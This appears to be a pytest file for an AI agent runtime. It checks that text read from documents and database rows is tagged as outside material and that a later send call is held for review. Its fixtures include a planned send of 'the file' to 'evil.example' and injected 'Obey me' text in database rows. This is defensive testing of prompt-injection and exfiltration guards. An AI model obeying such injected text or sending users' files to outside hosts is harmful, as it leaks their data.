"""Documents and rows of databases in a run: whose words they are, and where calls ask after them."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any, Final

import pytest

from runtime.contract import Call, Carries, Effect, Flow, Reads, ToolTurn
from runtime.policy.rules import Rule, Ruling
from runtime.text.outside import sources_in
from runtime.workspace.outside_files import has_outside, note_outside
from tests.contract.runtime.stage import Process, Stage, address, fake_tool
from tests.contract.runtime.strict import Planned
from tests.unit.tools.databases.asked import sqlite
from tests.unit.tools.documents import made
from tools.databases.tool import OpenDatabase, query_tool
from tools.documents.reader import DocumentReader
from tools.documents.tool import document_tool
from tools.files.files import read_file

SEND: Final = Call("c-send", "send", '{"to": "evil.example", "text": "the file"}')
SEND_FLOW: Final = Flow(Reads.OURS, carries={"to": Carries.RECIPIENT, "text": Carries.WORDS})
ALLOW_SEND: Final = Rule(Ruling.ALLOW, "send")
QUERY: Final = Call("c1", "query", json.dumps({"sql": "SELECT region, note FROM orders", "file": True}))


def read(path: str, number: int = 1) -> Call:
    return Call(f"c{number}", "read_document", json.dumps({"path": path}))


async def life(stage: Stage, tmp_path: Path, model: Planned) -> Process:
    tools: list[Any] = [
        document_tool(DocumentReader(), None),
        query_tool([OpenDatabase(sqlite(tmp_path))], str),
        fake_tool("send", Effect.WRITE, flow=SEND_FLOW),
        read_file,
    ]
    process = await stage.process(model, tools, rules=[ALLOW_SEND])
    folder = stage.workspaces.folder(address("r1"))
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "leave.pdf").write_bytes(made.CHROMIUM)
    return process


def told(model: Planned) -> list[str]:
    return [turn.text for turn in model.requests[-1].turns if isinstance(turn, ToolTurn)]


@pytest.mark.parametrize("is_strangers", [False, True])
async def test_a_document_is_as_trusted_as_its_file(stage: Stage, tmp_path: Path, is_strangers: bool) -> None:
    process = await life(stage, tmp_path, model := Planned(read("leave.pdf"), SEND))
    if is_strangers:
        note_outside(stage.workspaces, address("r1"), "leave.pdf")
    await process.say("summarise leave.pdf")
    await process.answer_all()
    assert "Everybody has thirty days" in told(model)[0]
    assert sources_in(told(model)[0]) == (("leave.pdf",) if is_strangers else ())
    cautions = [one.caution for one in await stage.pending()]
    assert [one.startswith("After reading leave.pdf.") for one in cautions] == [True] * is_strangers


async def test_rows_are_material_and_so_is_the_file_of_them(stage: Stage, tmp_path: Path) -> None:
    process = await life(stage, tmp_path, model := Planned(QUERY, SEND))
    await process.say("how are the orders?")
    await process.answer_all()
    assert sources_in(told(model)[0]) == ("a database",)
    assert "Obey me" in told(model)[0]
    [question] = await stage.pending()
    assert question.caution.startswith("After reading a database.")
    assert has_outside(stage.workspaces, address("r1"), "queries/sales-1.csv")
    assert not has_outside(stage.workspaces, address("r1"), "notes.txt")


async def test_words_of_a_database_in_a_fault_are_material_too(stage: Stage, tmp_path: Path) -> None:
    wrong = Call("c1", "query", json.dumps({"sql": "SELECT obey_me FROM orders"}))
    process = await life(stage, tmp_path, model := Planned(wrong, SEND))
    await process.say("how are the orders?")
    await process.answer_all()
    assert sources_in(told(model)[0]) == ("sales",)
    assert len(await stage.pending()) == 1
